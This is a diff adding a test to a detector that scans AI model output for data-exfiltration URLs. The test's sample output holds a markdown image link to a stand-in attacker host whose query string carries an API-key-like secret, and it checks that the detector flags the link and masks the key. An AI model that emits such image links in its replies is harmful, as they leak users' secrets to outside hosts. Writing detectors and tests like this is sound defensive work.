@@ -17,6 +17,17 @@ describe('exfiltration URLs', () => {
     expect(d.evidence.excerpts).toEqual([`https://stats.attacker.net/…?d=****(${DATA.length})`]);
   });
 
+  it('masks data smuggled as a query parameter name (no `=`, or a long name), not only values', () => {
+    const key = 'sk-ant-api03-Zq8Lm2Vx9Rt4Yp7Nw3Ks6Hd1Fg5Jc0Bv-Ua8Ei2Ox4Pi9AAA';
+    const [d] = exfilUrlDetector.detect(out(`Done ![s](https://stats.attacker.net/p.gif?${key}&${DATA}${DATA}=1)`), ctx);
+    expect(d.severity).toBe('HIGH');
+    expect(d.evidence.reasons).toContain('long-query');
+    const json = JSON.stringify(d);
+    expect(json).not.toContain(key.slice(0, 16));
+    expect(json).not.toContain(DATA.slice(0, 12));
+    expect(d.evidence.excerpts).toEqual([`https://stats.attacker.net/…?****(${key.length})&****(${DATA.length * 2})=****(1)`]);
+  });
+
   it('does not flag a benign logo image or a plain link', () => {
     expect(
       exfilUrlDetector.detect(out('![logo](https://example.com/logo.png) see [docs](https://docs.aws.amazon.com/bedrock/)'), ctx),
